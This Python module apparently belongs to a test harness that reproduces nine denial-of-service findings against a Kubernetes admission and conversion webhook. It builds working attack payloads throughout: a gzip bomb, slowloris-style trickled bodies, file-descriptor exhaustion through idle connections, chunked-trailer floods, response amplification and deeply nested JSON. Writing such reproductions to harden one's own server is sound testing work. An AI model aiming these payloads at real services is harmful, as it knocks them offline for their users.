"""The admission port's attacks of issue #25 (findings 1-9), each as a coroutine of the mix.

Sizes are the issue's: what was measured on main at 0ae7e66 is reproduced by running one alone.
Finding 2 (`--workers auto` losing every worker when one goes over the pod's limit) has no
request of its own: it is what findings 1, 3, 4 and 7 do to a pod of two workers, read from the
workers the supervisor had to replace.
"""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import time
import zlib
from functools import cache
from typing import Any

import orjson

from fooapi import LEGACY_API_VERSION
from fooapi.conversion import CONVERSION_ANNOTATION

from .foos import conversion_of, conversion_review, create_review, new_foo
from .harness import (
    Attack,
    MiB,
    Tally,
    Target,
    close,
    connect,
    exchange,
    hold,
    many,
    open_tcp,
    post,
    read_answer,
    repeat,
    status_of,
)


def dense(review: dict[str, Any], size: int) -> bytes:
    """``review`` with a field of empty objects appended until the body is ``size`` bytes."""
    head = orjson.dumps(review)
    return head[:-1] + b',"padding":[' + b"{}," * ((size - len(head) - 14) // 3) + b"{}]}"


def legacy_foo(
    *, annotations: dict[str, str] | None = None, spec: dict[str, object] | None = None
) -> dict[str, object]:
    metadata: dict[str, object] = {"name": "deep", "namespace": "default", "uid": "u"}
    if annotations:
        metadata["annotations"] = annotations
    return {
        "apiVersion": LEGACY_API_VERSION,
        "kind": "Foo",
        "metadata": metadata,
        "spec": spec or {"deploymentName": "deep", "replicas": 1},
    }


@cache
def gzip_bomb(inflated_mib: int = 250) -> bytes:
    """A ConversionReview that inflates to ``inflated_mib`` MiB of `{},` (~260 KB sent)."""
    head = orjson.dumps(conversion_of(1, LEGACY_API_VERSION))[:-2] + b',"padding":['
    deflate = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    parts = [deflate.compress(head)]
    chunk = b"{}," * (MiB // 3)
    parts += [deflate.compress(chunk) for _ in range(inflated_mib)]
    parts.append(deflate.compress(b"{}]}}"))
    parts.append(deflate.flush())
    return b"".join(parts)


def invalid_name_review(size: int) -> bytes:
    """A review of ``size`` bytes whose Foo's deployment name, nearly all of it, is a value no DNS
    label allows: every field error about it repeats it."""
    foo = new_foo()
    rest = len(orjson.dumps(create_review(foo)))
    foo["spec"]["deployment"]["name"] = "Bad_Name." * ((size - rest) // 9)
    return orjson.dumps(create_review(foo))


def prepare() -> None:
    """Make the bodies that take seconds, once, before the attack processes fork."""
    gzip_bomb()
    deep_bodies()


DEEP = "__deep__"


def with_deep(document: object, value: bytes) -> bytes:
    """``document`` as JSON with its one ``DEEP`` string replaced by ``value`` (orjson writes only
    255 levels, so what is deeper is spliced in as text)."""
    return orjson.dumps(document).replace(f'"{DEEP}"'.encode(), value, 1)


def nested_lists(depth: int) -> bytes:
    return b"[" * depth + b"1" + b"]" * depth


def nested_dicts(depth: int) -> bytes:
    return b'{"a":' * depth + b"1" + b"}" * depth


@cache
def deep_bodies() -> tuple[tuple[str, bytes], ...]:
    """Finding 9's three bodies: a value ~990 deep in an admission review (rendered in its error),
    a conversion stash annotation nested past any parser's depth, a /convert object 300 deep."""
    deep_value = new_foo()
    deep_value["spec"]["replicas"] = DEEP
    stash = legacy_foo(annotations={CONVERSION_ANNOTATION: "[" * 100_000 + "]" * 100_000})
    deep_object = legacy_foo(spec={"deploymentName": "deep", "replicas": 1, "extra": DEEP})
    return (
        ("/validate-foo", with_deep(create_review(deep_value), nested_lists(990))),
        ("/convert", orjson.dumps(conversion_review([stash], "samplecontroller.k8s.io/v1", uid="deep-stash"))),
        (
            "/convert",
            with_deep(
                conversion_review([deep_object], "samplecontroller.k8s.io/v1", uid="deep-object"), nested_dicts(300)
            ),
        ),
    )


async def gzip_bodies(target: Target, tally: Tally, stop: asyncio.Event) -> None:
    """Finding 1: a gzip body inflated before the budget is charged (2 clients, one per worker)."""
    bomb = gzip_bomb()
    request = post("/convert", bomb, target, extra="Content-Encoding: gzip\r\n")

    async def one(_: int) -> None:
        await repeat(stop, lambda: exchange(target, request, tally, quiet=30), pause=0.2)

    await many(2, one)


async def unread_answers(target: Target, tally: Tally, stop: asyncio.Event) -> None:
    """Finding 3: four clients send 3 MiB ConversionReviews (2,000 Foos), whose answers are as
    large whatever errors say, and never read them."""
    request = post("/convert", orjson.dumps(conversion_of(2000, LEGACY_API_VERSION)), target)

    async def one(_: int) -> None:
        async def round_() -> None:
            if (connection := await connect(target, tally, stop, receive_buffer=4096)) is None:
                return
            _, writer = connection
            try:
                writer.write(request)
                with contextlib.suppress(OSError, ssl.SSLError):
                    await writer.drain()
                began = time.monotonic()
                while time.monotonic() - began < 40 and not stop.is_set() and not writer.transport.is_closing():
                    await hold(stop, 0.5)  # never read; see whether the server gives up first
                held = time.monotonic() - began
                if writer.transport.is_closing():
                    tally.answers[f"cut off by the server within {5 * (held // 5 + 1):.0f}s"] += 1
                else:
                    tally.answers["held 40s" if held >= 40 else "still held at the end of the run"] += 1
            finally:
                writer.transport.abort()

        await repeat(stop, round_)

    await many(4, one)


async def amplified_answers(target: Target, tally: Tally, stop: asyncio.Event) -> None:
    """Finding 4: an 8 MiB review whose every field error repeats the value; the answer's size noted."""
    body = invalid_name_review(8 * MiB - 1024)  # the admission body limit is 8 MiB
    request = post("/validate-foo", body, target)

    async def one(_: int) -> None:
        async def round_() -> None:
            _, size = await exchange(target, request, tally, quiet=30)
            tally.notes["largest answer (bytes)"] = max(tally.notes["largest answer (bytes)"], size)

        await repeat(stop, round_)

    await many(2, one)


async def waiting_bodies(target: Target, tally: Tally, stop: asyncio.Event, connections: int = 300) -> None:
    """Finding 5: many connections each send ~300 KiB of a declared 8 MiB body, then trickle."""
    prefix = dense(create_review(new_foo()), 8 * MiB)[: 300 * 1024]
    request = post("/validate-foo", b"", target, content_length=8 * MiB) + prefix

    async def one(_: int) -> None:
        async def round_() -> None:
            if (connection := await connect(target, tally, stop)) is None:
                return
            reader, writer = connection
            try:
                writer.write(request)
                while not stop.is_set() and not reader.at_eof():
                    await writer.drain()
                    with contextlib.suppress(TimeoutError):
                        async with asyncio.timeout(2):
                            tally.answers[status_of(await reader.readline())] += 1
                            return
                    writer.write(b"{},")
            except (OSError, ssl.SSLError) as err:
                tally.answers[f"reset {type(err).__name__}"] += 1
            finally:
                await close(writer)

        await repeat(stop, round_)

    await many(connections, one)


async def idle_connections(
    target: Target, tally: Tally, stop: asyncio.Event, tls_connections: int = 300, tcp_connections: int = 2400
) -> None:
    """Finding 6: idle TLS connections and bare TCP connects: more than two workers' 1,024 fds."""

    async def tls(_: int) -> None:
        async def round_() -> None:
            if (connection := await connect(target, tally, stop)) is None:
                return
            reader, writer = connection
            try:
                status, _ = await read_answer(reader, 3600)  # until the server closes it, or we stop
                tally.answers[f"tls idle closed by server ({status})"] += 1
            finally:
                writer.transport.abort()

        await repeat(stop, round_)

    async def tcp(_: int) -> None:
        async def round_() -> None:
            try:
                sock = await open_tcp(target)
            except (OSError, TimeoutError) as err:
                tally.answers[f"tcp connect {type(err).__name__}"] += 1
                await hold(stop, 1)
                return
            tally.notes["tcp connected"] += 1
            try:
                loop = asyncio.get_running_loop()
                reading = asyncio.ensure_future(loop.sock_recv(sock, 1))
                stopping = asyncio.ensure_future(stop.wait())
                await asyncio.wait([reading, stopping], return_when=asyncio.FIRST_COMPLETED)
                if reading.done():
                    tally.answers["tcp closed by server"] += 1
                for task in (reading, stopping):
                    task.cancel()
                await asyncio.gather(reading, stopping, return_exceptions=True)  # before the close
            finally:
                sock.close()

        await repeat(stop, round_)

    await asyncio.gather(many(tls_connections, tls), many(tcp_connections, tcp))


async def trailer_floods(target: Target, tally: Tally, stop: asyncio.Event) -> None:
    """Finding 7: chunked bodies whose one trailer field never ends (8 at once): the parser joins
    its pieces (quadratic), and no trailer byte counts as a header or a body byte."""
    field = b"t" * 16384
    head = (
        f"POST /convert HTTP/1.1\r\nHost: {target.host}\r\nContent-Type: application/json\r\n"
        "Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\nX-Trailer: "
    ).encode()

    async def one(_: int) -> None:
        async def round_() -> None:
            if (connection := await connect(target, tally, stop)) is None:
                return
            reader, writer = connection
            answer = asyncio.ensure_future(reader.readline())
            try:
                writer.write(head)
                while not stop.is_set() and not answer.done():
                    writer.write(field)
                    await writer.drain()
                    await asyncio.sleep(0)  # drain() need not yield: let the others (and the answer) in
                if answer.done() and not answer.exception():
                    tally.answers[status_of(answer.result())] += 1
            except (OSError, ssl.SSLError) as err:
                tally.answers[f"reset {type(err).__name__}"] += 1
            finally:
                answer.cancel()
                await close(writer)

        await repeat(stop, round_)

    await many(8, one)


async def upgrades(target: Target, tally: Tally, stop: asyncio.Event) -> None:
    """Finding 8: Upgrade and CONNECT must get one answer; two status lines are noted."""
    requests = (
        f"GET /healthz HTTP/1.1\r\nHost: {target.host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n".encode(),
        f"CONNECT {target.host}:443 HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode(),
    )

    async def round_() -> None:
        for request in requests:
            if (connection := await connect(target, tally)) is None:
                continue
            reader, writer = connection
            try:
                writer.write(request)
                data = b""
                with contextlib.suppress(TimeoutError, OSError, ssl.SSLError):
                    async with asyncio.timeout(2):
                        while chunk := await reader.read(65536):
                            data += chunk
                statuses = data.count(b"HTTP/1.1 ")
                tally.answers[data.split(b" ", 2)[1].decode() if statuses else "closed"] += 1
                if statuses > 1:
                    tally.notes["two answers to one request"] += 1
            finally:
                await close(writer)

    await repeat(stop, round_, pause=0.5)


async def deep_nesting(target: Target, tally: Tally, stop: asyncio.Event) -> None:
    """Finding 9: three deeply nested bodies that were each a 500 with a traceback."""

    async def round_() -> None:
        for path, body in deep_bodies():
            status, _ = await exchange(target, post(path, body, target), tally, quiet=10)
            if status.startswith("5"):
                tally.notes[f"5xx on {path}"] += 1

    await repeat(stop, round_, pause=0.5)


# Finding number -> attack. Finding 2 has none of its own (see the module's docstring).
WEBHOOK_ATTACKS: dict[int, Attack] = {
    1: gzip_bodies,
    3: unread_answers,
    4: amplified_answers,
    5: waiting_bodies,
    6: idle_connections,
    7: trailer_floods,
    8: upgrades,
    9: deep_nesting,
}
